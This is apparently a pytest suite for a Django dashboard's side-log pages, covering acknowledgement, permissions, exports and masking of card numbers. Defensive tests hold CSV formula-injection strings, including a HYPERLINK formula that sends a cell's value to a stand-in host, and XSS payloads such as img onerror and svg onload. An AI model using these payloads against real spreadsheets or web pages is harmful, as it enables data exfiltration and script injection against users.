"""The side log's pages: what was refused and why, chosen rows acknowledged, files that no spreadsheet runs."""

from __future__ import annotations

import csv
import io
import json
import uuid
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from pytest_django import DjangoAssertNumQueries

from dashboard.access import Group
from fencing.models import Acknowledgement, AuditEvent, SideLogRow, cold
from fencing.protocol.exports import FORMULA
from tests.dashboard.conftest import SignedIn
from tests.factories import make_acknowledgement, make_side_log_row, make_tool, soon
from tests.stories import REFUND, Story

pytestmark = pytest.mark.django_db
MOST_QUERIES = 14
NASTY = ['=HYPERLINK("http://x.test/?"&A1,"ok")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "a\n=1", "\uff1d1"]
MARKUP = "<img src=x onerror=alert(1)>"


def choose(client: Client, rows: list[SideLogRow], **more: Any) -> Any:
    return client.get("/side-log/acknowledge", {"row": [str(row.pk) for row in rows], **more})


def acknowledge(client: Client, rows: list[SideLogRow], reason: str = "A planner of old.", **more: Any) -> Any:
    ids = [str(row.pk) for row in rows]
    return client.post("/side-log/acknowledge", {"row": ids, "reason": reason, **more}, follow=True)


def shown(answer: Any) -> set[uuid.UUID]:
    return {line.row.id for line in answer.context["lines"]()}


def ids_of(event: AuditEvent) -> list[str]:
    assert event.after is not None
    ids: list[str] = event.after["ids"]
    return ids


def test_nothing_was_refused_yet(signed_in: SignedIn) -> None:
    html = signed_in(Group.AUDITOR).get("/side-log").content.decode()
    assert "Nothing was ever refused or ignored." in html
    assert "Nothing waits here" in html


def test_a_refused_vote_is_found_and_tells_why(signed_in: SignedIn) -> None:
    story = Story.begin()
    story.propose("pay")
    story.vote(story.production, REFUND, "pay")
    story.vote(story.production, {"tool": "refund", "args": {"invoice": 9, "cents": 1}}, "pay")
    client = signed_in(Group.ONCALL)
    answer = client.get("/side-log", {"run": story.run, "reason": "equivocation"})
    (line,) = answer.context["lines"]()
    page = client.get(f"/side-log/{line.row.id}").content.decode()
    assert line.sentence.text.startswith("Refused, equivocation: ")
    assert "equivocation" in page
    assert f'href="/runs/{story.run}/steps/pay?epoch=7"' in page
    assert "production" in page


def test_the_list_shows_what_nobody_acknowledged_unless_asked(signed_in: SignedIn) -> None:
    seen, fresh = make_acknowledgement().row, make_side_log_row()
    client = signed_in(Group.REVIEWER)
    assert shown(client.get("/side-log")) == {fresh.pk}
    assert shown(client.get("/side-log?state=acknowledged")) == {seen.pk}
    assert shown(client.get("/side-log?state=all")) == {seen.pk, fresh.pk}
    assert "Nobody has acknowledged 1 of the 2 rows." in client.get("/side-log").content.decode()


def test_the_rows_on_the_confirmation_are_the_rows_that_are_acknowledged(signed_in: SignedIn) -> None:
    chosen = [make_side_log_row(run=f"r-{number}") for number in range(40)]
    others = [make_side_log_row() for _ in range(3)]
    client = signed_in(Group.ONCALL)
    asked = choose(client, chosen)
    assert {line.row.id for line in asked.context["fresh"]} == {row.pk for row in chosen}
    assert "Acknowledge 40 rows" in asked.content.decode()
    assert not Acknowledgement.objects.exists(), "to look changes nothing"
    make_side_log_row()  # comes in meanwhile
    answer = acknowledge(client, chosen)
    assert "40 rows acknowledged, in your name" in answer.content.decode()
    assert set(Acknowledgement.objects.values_list("row_id", flat=True)) == {row.pk for row in chosen}
    assert not Acknowledgement.objects.filter(row__in=others).exists()
    (event,) = AuditEvent.objects.filter(verb="acknowledge")
    assert (event.actor, event.reason, len(ids_of(event))) == ("lena (browser)", "A planner of old.", 40)


def test_what_somebody_acknowledged_meanwhile_stays_theirs(signed_in: SignedIn) -> None:
    rows = [make_side_log_row() for _ in range(3)]
    first = make_acknowledgement(row=rows[0])
    client = signed_in(Group.REVIEWER)
    asked = choose(client, rows)
    assert [line.row.id for line in asked.context["seen"]] == [rows[0].pk]
    answer = acknowledge(client, rows)
    told = "2 rows acknowledged, in your name and for your reason. 1 other row had been acknowledged by somebody before"
    assert told in answer.content.decode()
    assert Acknowledgement.objects.get(row=rows[0]).pk == first.pk
    (event,) = AuditEvent.objects.filter(verb="acknowledge")
    assert str(rows[0].pk) not in ids_of(event)


def test_without_a_reason_nothing_is_acknowledged_and_what_was_chosen_stays(signed_in: SignedIn) -> None:
    rows = [make_side_log_row() for _ in range(2)]
    answer = acknowledge(signed_in(Group.ONCALL), rows, reason="  ")
    assert answer.status_code == 422
    assert {line.row.id for line in answer.context["fresh"]} == {row.pk for row in rows}
    assert not Acknowledgement.objects.exists()


def test_one_row_that_is_not_there_lets_none_be_acknowledged(signed_in: SignedIn) -> None:
    row = make_side_log_row()
    ids = [str(row.pk), str(uuid.uuid4())]
    answer = signed_in(Group.ONCALL).post("/side-log/acknowledge", {"row": ids, "reason": "seen"})
    assert answer.status_code == 404
    assert not Acknowledgement.objects.exists()


def test_the_filters_come_back_after_an_acknowledgement(signed_in: SignedIn) -> None:
    row = make_side_log_row(run="r-1")
    client = signed_in(Group.ONCALL)
    answer = acknowledge(client, [row], filters="run=r-1&state=all")
    assert answer.redirect_chain == [("/side-log?run=r-1&state=all", 302)]


def test_an_auditor_reads_and_is_told_why_they_acknowledge_nothing(signed_in: SignedIn) -> None:
    row = make_side_log_row()
    client = signed_in(Group.AUDITOR)
    assert "you are in neither group" in client.get("/side-log").content.decode()
    assert 'type="checkbox" name="row"' not in client.get("/side-log").content.decode()
    assert acknowledge(client, [row]).status_code == 403
    assert not Acknowledgement.objects.exists()


def test_a_persons_own_refusal_bears_their_name(signed_in: SignedIn) -> None:
    """S1: which key, or which person. Who acts in the browser uses no key."""
    client = signed_in(Group.ONCALL)
    client.post("/side-log/acknowledge", {"row": [str(uuid.uuid4())], "reason": "seen"})
    (row,) = SideLogRow.objects.all()
    assert row.person == User.objects.get(username="lena")
    (line,) = client.get("/side-log?by=lena").context["lines"]()
    assert line.row.person == "lena"
    assert "in the browser" in client.get(f"/side-log/{row.pk}").content.decode()


@pytest.mark.parametrize("address", ["/side-log", "/audit"])
@pytest.mark.parametrize("bound", ["from", "until"])
def test_a_time_of_another_day_in_utc_is_a_time(signed_in: SignedIn, address: str, bound: str) -> None:
    answer = signed_in(Group.AUDITOR).get(address, {"state": "all", bound: "1660-11-04T10:19:11.14-23:45"})
    assert answer.status_code == 200
    assert "is no time" not in answer.content.decode()


def test_a_search_that_ends_before_it_begins_finds_nothing(signed_in: SignedIn) -> None:
    answer = signed_in(Group.AUDITOR).get("/audit", {"from": "2026-02-01", "until": "2026-01-01"})
    assert answer.status_code == 200


@pytest.mark.parametrize("typed", ["yesterday", "2026-13-01", "x" * 500])
def test_a_time_that_is_none_is_told_and_left_out(signed_in: SignedIn, typed: str) -> None:
    make_side_log_row()
    answer = signed_in(Group.AUDITOR).get("/side-log", {"from": typed})
    assert "That is no time" in answer.content.decode()
    assert len(answer.context["lines"]()) == 1


@pytest.mark.parametrize(
    "query", ["epoch=-1", "epoch=9999999999999999999", "seq=x", "run=%00", "class=odd", "cursor=x"]
)
def test_nonsense_in_the_address_is_left_out(signed_in: SignedIn, query: str) -> None:
    make_side_log_row()
    assert len(signed_in(Group.AUDITOR).get(f"/side-log?{query}").context["lines"]()) == 1


# ---- public reports, kind i ----


def test_i01_markup_is_shown_as_text_wherever_a_row_is_shown(signed_in: SignedIn) -> None:
    row = make_side_log_row(run=MARKUP, step="'><b>x", tool=MARKUP, reason="bad_json", detail="<svg onload=alert(3)>")
    client = signed_in(Group.ONCALL)
    for path in ("/side-log", f"/side-log/{row.pk}", f"/side-log/acknowledge?row={row.pk}"):
        html = client.get(path).content.decode()
        assert "<img src=x" not in html, path
        assert "<svg onload" not in html, path
        assert "'><b>x" not in html, path
    assert "javascript:" not in client.get(f"/side-log/{row.pk}").content.decode()


def exported(client: Client, form: str, query: str = "state=all") -> str:
    answer: Any = client.get(f"/side-log/file?format={form}&{query}")
    assert answer.status_code == 200
    assert "attachment" in answer["Content-Disposition"]
    return b"".join(answer.streaming_content).decode()


@pytest.mark.parametrize("cell", NASTY)
@pytest.mark.parametrize("column", ["run", "step", "path", "tool", "detail", "lane", "attempt"])
def test_i02_no_cell_of_a_file_begins_like_a_formula(signed_in: SignedIn, cell: str, column: str) -> None:
    values: dict[str, Any] = {"epoch": -7, "seq": 3, "digest": "sha256:" + "a" * 64, column: cell}
    make_side_log_row(**values)
    text = exported(signed_in(Group.AUDITOR), "csv")
    head, row = list(csv.reader(io.StringIO(text, newline="")))
    found = dict(zip(head, row, strict=True))
    assert not any(value.startswith(FORMULA) for name, value in found.items() if name != "epoch"), found
    assert found[column].removeprefix("'") == cell
    assert (found["epoch"], found["seq"], found["digest"]) == ("-7", "3", "sha256:" + "a" * 64)
    assert text.endswith("\r\n")


def test_both_files_hold_every_row_that_fits_and_the_same(signed_in: SignedIn) -> None:
    rows = [make_side_log_row(run=f"r-{number % 2}", recorded_at=soon(-number)) for number in range(7)]
    make_acknowledgement(row=rows[2])
    client = signed_in(Group.AUDITOR)
    lines = [json.loads(line) for line in exported(client, "ndjson").splitlines()]
    table = list(csv.DictReader(io.StringIO(exported(client, "csv"), newline="")))
    assert [line["id"] for line in lines] == [row["id"] for row in table] == [str(row.pk) for row in rows]
    some = exported(client, "ndjson", "run=r-1&state=all").splitlines()
    assert [json.loads(line)["run"] for line in some] == ["r-1"] * 3
    assert table[2]["acknowledged_reason"] == lines[2]["acknowledged"]["reason"] == "seen, a known client"
    assert len(exported(client, "ndjson", "").splitlines()) == 6, "without a state: what nobody acknowledged"


def test_a_file_of_another_kind_is_not_there(signed_in: SignedIn) -> None:
    assert signed_in(Group.AUDITOR).get("/side-log/file?format=xlsx").status_code == 404


# ---- what was sent (S1, U5) ----


def body_row(data: bytes) -> SideLogRow:
    return make_side_log_row(body_sha256="0" * 64, body_length=len(data), body_ref=cold.put(data))


def test_the_beginning_of_a_refused_body_is_shown_as_text(signed_in: SignedIn) -> None:
    row = body_row(b'{"run": "r", <script>alert(1)</script>')
    html = signed_in(Group.ONCALL).get(f"/side-log/{row.pk}").content.decode()
    assert "&lt;script&gt;alert(1)" in html
    assert "38 bytes" in html


@pytest.mark.parametrize(
    "data",
    [
        b'{"action": {"tool": "refund", "args": {"card": "4111-1111", "cents": 1}}}',
        b'{"items": [{"action": {"tool": "refund", "args": {"card": {"number": "4111-1111"}}}}]}',
        b'{"action": {"tool": "refund", "args": "4111-1111"}}',
        b'{"action": {"tool": "refund", "args": {"card": "4111-1111"',
        b"\xff4111-1111",
    ],
)
def test_what_a_tool_calls_sensitive_is_masked_or_the_body_is_not_shown(signed_in: SignedIn, data: bytes) -> None:
    make_tool(tool="refund", sensitive=["/card"])
    html = signed_in(Group.ONCALL).get(f"/side-log/{body_row(data).pk}").content.decode()
    assert "4111" not in html
    assert "•••" in html or "cannot be found in it to be masked" in html


def test_a_body_that_cold_storage_lost_is_told(signed_in: SignedIn) -> None:
    row = make_side_log_row(body_sha256="0" * 64, body_length=5)
    assert "never took it" in signed_in(Group.ONCALL).get(f"/side-log/{row.pk}").content.decode()


# ---- bounds ----


@pytest.mark.parametrize("count", [1, 60])
def test_the_list_takes_as_many_statements_for_many_rows_as_for_one(
    signed_in: SignedIn, django_assert_max_num_queries: DjangoAssertNumQueries, count: int
) -> None:
    for number in range(count):
        make_side_log_row(run=f"r-{number}", resources=["9"])
    client = signed_in(Group.ONCALL)
    with django_assert_max_num_queries(MOST_QUERIES):
        assert len(client.get("/side-log").context["lines"]()) == min(count, 50)


def test_the_overview_tells_the_depth_and_counts_apart(signed_in: SignedIn) -> None:
    make_side_log_row()
    make_side_log_row(reason="late_vote")
    html = signed_in().get("/?part=rules").content.decode()
    assert "2 rows of the side log that nobody acknowledged" in html
    assert '<span class="figure">1</span> stale reject</li>' in html
    assert '<span class="figure">0</span> refusals' in html
